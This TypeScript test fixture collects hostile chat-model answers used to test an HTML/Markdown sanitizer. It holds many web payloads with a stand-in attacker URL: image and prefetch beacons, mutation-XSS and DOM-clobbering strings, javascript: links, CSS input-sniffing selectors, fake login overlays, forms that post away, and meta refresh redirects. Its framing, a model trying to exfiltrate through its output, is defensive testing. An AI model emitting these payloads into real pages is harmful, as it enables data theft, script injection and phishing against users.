// Answers of a model that tries to make the page send a request, run a script or cover its controls.

export interface HostileAnswer {
  name: string
  /** `EVIL` stands for a URL of another server. */
  text: string
  /** It leaves the page by itself, which no Content-Security-Policy can forbid: the sanitizer has to. */
  leaves?: boolean
}

const PIXEL =
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg"><image href="EVIL"/></svg>'

/** What loads by itself, as a tag of HTML or in Markdown. */
const loading = {
  'an image of Markdown': '![a cat](EVIL)',
  'an image by reference': '![a cat][1]\n\n[1]: EVIL "title"',
  'an image by a collapsed reference': '![cat][]\n\n[cat]: <EVIL>',
  'an image in a link': '[![a cat](EVIL)](EVIL-target)',
  'an image in a table': '| a | b |\n|---|---|\n| ![x](EVIL) | y |',
  'an image in a list of a quote': '> - ![x](EVIL)\n>   - ![y](EVIL?y)',
  'an image in a heading': '# ![x](EVIL)\n\nSetext ![y](EVIL?2)\n===',
  'an image whose alternative text is HTML': '![<img src=EVIL>](EVIL)',
  'an image whose title breaks out': '![x](EVIL "\\"><img src=EVIL onerror=\'window.hit=1\'>")',
  'an image without a scheme': '![x](//SCHEMELESS)',
  'an image with odd schemes': '![x](HTTP:EVIL) ![y](\thttp:SCHEMELESS) ![z](http:\\\\SCHEMELESS)',
  img: '<img src="EVIL">',
  'img, in capitals and with a slash': '<IMG/SRC=EVIL/>',
  'img srcset': '<img srcset="EVIL 1x, EVIL?2 2x" sizes="100vw">',
  'img lazy with lowsrc': '<img loading=eager lowsrc="EVIL" dynsrc="EVIL" longdesc="EVIL" src=x>',
  image: '<image src="EVIL">',
  'picture and source': '<picture><source srcset="EVIL"><img src="data:,"></picture>',
  video: '<video src="EVIL" poster="EVIL?poster" autoplay muted></video>',
  'video and source': '<video autoplay><source src="EVIL"><track src="EVIL?t" default></video>',
  audio: '<audio src="EVIL" autoplay preload=auto></audio>',
  'input as an image': '<input type=image src="EVIL">',
  object: '<object data="EVIL" type="text/html"><embed src="EVIL?e"></object>',
  embed: '<embed src="EVIL" type="image/svg+xml">',
  applet: '<applet archive="EVIL" code="x"></applet>',
  iframe: '<iframe src="EVIL"></iframe>',
  'iframe srcdoc':
    '<iframe srcdoc="&lt;img src=EVIL&gt;&lt;script src=EVIL?s&gt;&lt;/script&gt;"></iframe>',
  'iframe of javascript': '<iframe src="javascript:fetch(\'EVIL\');parent.hit=1"></iframe>',
  'frame and frameset': '<frameset><frame src="EVIL"></frameset><frame src="EVIL">',
  portal: '<portal src="EVIL"></portal><fencedframe src="EVIL"></fencedframe>',
  background: '<table background="EVIL"><tr><td background="EVIL?td">x</td></tr></table>',
  'body background': '<body background="EVIL" onload="window.hit=1">',
  bgsound: '<bgsound src="EVIL">',
  script: '<script src="EVIL"></script><script>window.hit=1;fetch("EVIL")</script>',
  'script of a module': '<script type=module>import "EVIL"</script>',
  'link as a style sheet': '<link rel=stylesheet href="EVIL">',
  'link that prefetches':
    '<link rel=prefetch href="EVIL"><link rel=preload as=image href="EVIL?p">',
  'link that prerenders': '<link rel=prerender href="EVIL"><link rel=modulepreload href="EVIL?m">',
  'link as icon and manifest': '<link rel=icon href="EVIL"><link rel=manifest href="EVIL?m">',
  'link as an import': '<link rel=import href="EVIL"><link rel=alternate href="EVIL?a">',
  'speculation rules':
    '<script type=speculationrules>{"prefetch":[{"source":"list","urls":["EVIL"]}]}</script>',
  template:
    '<template><img src=EVIL></template><template shadowrootmode=open><img src=EVIL></template>',
  'declarative shadow root':
    '<div><template shadowrootmode="open"><style>@import "EVIL"</style></template></div>',
  base: '<base href="EVIL/"><img src="below">![x](relative)',
  noscript: '<noscript><img src="EVIL"></noscript><noscript><p title="</noscript><img src=EVIL>">',
}

/** What connects without a request. */
const connecting = {
  'link that connects': '<link rel=preconnect href="EVIL"><link rel=dns-prefetch href="EVIL">',
}

/** Styles. */
const styling = {
  'style with url()': '<style>body{background:url(EVIL)}</style>',
  'style that imports': '<style>@import url("EVIL");</style>',
  'a font': '<style>@font-face{font-family:x;src:url(EVIL)}*{font-family:x!important}</style>',
  'a style attribute': '<p style="background:url(EVIL)">x</p>',
  'a style attribute with image-set': '<p style="background:image-set(\'EVIL\' 1x)">x</p>',
  'a list image and a cursor':
    '<ul style="list-style:url(EVIL);cursor:url(EVIL?c),auto"><li>x</li></ul>',
  'an overlay': '<div style="position:fixed;inset:0;z-index:9999;background:red">Log in</div>',
  'an overlay by a style sheet':
    '<style>.messages,.message{position:fixed!important;inset:0;z-index:9999}</style>',
  'an overlay by the page’s own classes':
    '<div class="columns"><div class="hidden tabs notice">x</div></div>',
  'an overlay by a dialog': '<dialog open>Log in</dialog><div popover id=p>x</div>',
  'selectors that tell what was typed': '<style>textarea[value^="a"]{background:url(EVIL)}</style>',
}

/** SVG and MathML. */
const vectors = {
  'svg image': '<svg><image href="EVIL" width=9 height=9 /></svg>',
  'svg image by xlink': '<svg><image xlink:href="EVIL"></image></svg>',
  'svg use': '<svg><use href="EVIL#x"></use></svg>',
  'svg feImage':
    '<svg><filter id=f><feImage href="EVIL"/></filter><rect filter="url(#f)" width=9 height=9 /></svg>',
  'svg attributes with url()':
    '<svg><rect fill="url(EVIL#a)" mask="url(EVIL?m#a)" width=9 height=9 /></svg>',
  'svg script and animation':
    '<svg><script href="EVIL"></script><animate onbegin="window.hit=1" attributeName=x dur=1s></svg>',
  'svg that sets a link':
    '<svg><a><set attributeName=href to="javascript:window.hit=1"/><text y=20>x</text></a></svg>',
  'svg foreignObject': '<svg><foreignObject><iframe src="EVIL"></iframe></foreignObject></svg>',
  'an image of data with svg': `<img src='${PIXEL}'>![x](${PIXEL.replaceAll(' ', '%20')})`,
  'math with a link':
    '<math><mtext href="EVIL"><img src="EVIL"></mtext><maction href="EVIL">x</maction></math>',
}

/** Parsers that disagree: what is harmless when it is checked, and something else when it is read again. */
const mutating = {
  'mutation by math and style':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=EVIL onerror=window.hit=1&gt;">',
  'mutation by form and mglyph':
    '<form><math><mtext></form><form><mglyph><style></math><img src=EVIL onerror=window.hit=1>',
  'mutation by svg and style':
    '<svg></p><style><a id="</style><img src=EVIL onerror=window.hit=1>">',
  'mutation by svg title': '<svg><title><style><img src=EVIL></style></title></svg><img src=EVIL>',
  'mutation by annotation-xml':
    '<math><annotation-xml encoding="text/html"><style><img src=EVIL onerror=window.hit=1></style></annotation-xml></math>',
  'mutation by noembed and xmp':
    '<noembed><img title="</noembed><img src=EVIL>"><xmp><img title="</xmp><img src=EVIL>">',
  'mutation by textarea and title':
    '<textarea><img title="</textarea><img src=EVIL>"></textarea><title><a title="</title><img src=EVIL>">',
  'mutation by a comment': '<!--><img src=EVIL>--><!--a--!><img src=EVIL><?x ><img src=EVIL>?>',
  'mutation by CDATA': '<svg><![CDATA[><img src=EVIL onerror=window.hit=1>]]></svg>',
  'mutation by plaintext': 'x <plaintext><img src=EVIL>',
  'mutation by nested forms and tables':
    '<table><form><td><form><img src=EVIL></form></td></table>',
  'mutation by select': '<select><iframe><select><img src=EVIL></select></iframe></select>',
  'clobbering of the DOM':
    '<form id=app><input name=attributes><input name=childNodes><input name=parentNode></form><img name=body src=EVIL><a id=location href=EVIL>',
  'deep nesting': `${'<div>'.repeat(600)}<img src=EVIL>`,
}

/** Scripts, and attributes that run them. */
const running = {
  'event handlers':
    '<img src=x onerror="window.hit=1"><p onclick="window.hit=1" onpointerenter="window.hit=1">x</p>',
  'event handlers that fire by themselves':
    '<details open ontoggle="window.hit=1"><input autofocus onfocus="window.hit=1"><marquee onstart="window.hit=1">x</marquee>',
  'a custom element': '<x-y onconnected="window.hit=1" is=z><img src=EVIL></x-y>',
  'links that run':
    '[a](javascript:window.hit=1) [b](JaVaScRiPt&colon;window.hit=1) <a href="java\nscript:window.hit=1">c</a> [d](vbscript:x) [e](data:text/html,<script>parent.hit=1</script>)',
  'a link that tells that it was clicked':
    '<a href="#" ping="EVIL" download attributionsrc="EVIL">x</a>',
  'an attribution of sources': '<img src="data:image/png;base64,AA==" attributionsrc="EVIL">',
}

/** Forms. */
const sending = {
  'a form':
    '<form action="EVIL" method=post><input name=key autofocus><button>Log in</button></form>',
  'a button that belongs to the page’s form':
    '<button form="f" formaction="EVIL">x</button><input type=submit formaction=EVIL>',
  'an isindex': '<isindex action="EVIL" prompt="Log in">',
}

/** Forms of Markdown that lead to addresses. */
const linking = {
  'links and addresses in text':
    'EVIL <EVIL> [x](EVIL) [y][1] www.evil.example mail@evil.example\n\n[1]: EVIL',
  'a footnote and a task': '- [ ] <img src=EVIL>\n- [x] ![x](EVIL)\n\n[^1]: ![x](EVIL)',
  'HTML in code': '`<img src=EVIL>`\n\n```html\n<img src=EVIL>\n```\n\n    <img src=EVIL>',
  'a fence whose language breaks out': '```"><img src=EVIL>\nx\n```\n\n~~~<img/src=EVIL>\nx',
  'code with classes of the page':
    '<pre><code class="language-ts hidden notice">x</code></pre><code class="columns">y</code>',
  'HTML over several blocks': '<div>\n\n<img src=EVIL>\n\n```html\n<img src=EVIL>\n```\n\n</div>',
  'HTML between Markdown':
    '**<img src=EVIL>** _<b><img/src="EVIL"_ </b> <a href="EVIL"><img src="EVIL"></a>',
  entities: '&lt;img src=EVIL&gt; &#60;img src=EVIL&#62; <img src="&#104;ttp:SCHEMELESS">',
  'zero bytes and odd characters':
    '<i\u0000mg src=EVIL> <img\u000csrc=EVIL> <\u200bimg src=EVIL> \uff1cimg src=EVIL\uff1e',
}

const leaving = {
  'meta that reloads': '<meta http-equiv="refresh" content="0; url=EVIL">',
  'meta that reloads within svg':
    '<svg><desc><meta http-equiv=refresh content="0;url=EVIL"></desc></svg>',
}

function named(texts: Record<string, string>, leaves = false): HostileAnswer[] {
  return Object.entries(texts).map(([name, text]) => ({ name, text, ...(leaves && { leaves }) }))
}

export const hostileAnswers: readonly HostileAnswer[] = [
  ...[loading, connecting, styling, vectors, mutating, running, sending, linking].flatMap((texts) =>
    named(texts),
  ),
  ...named(leaving, true),
]
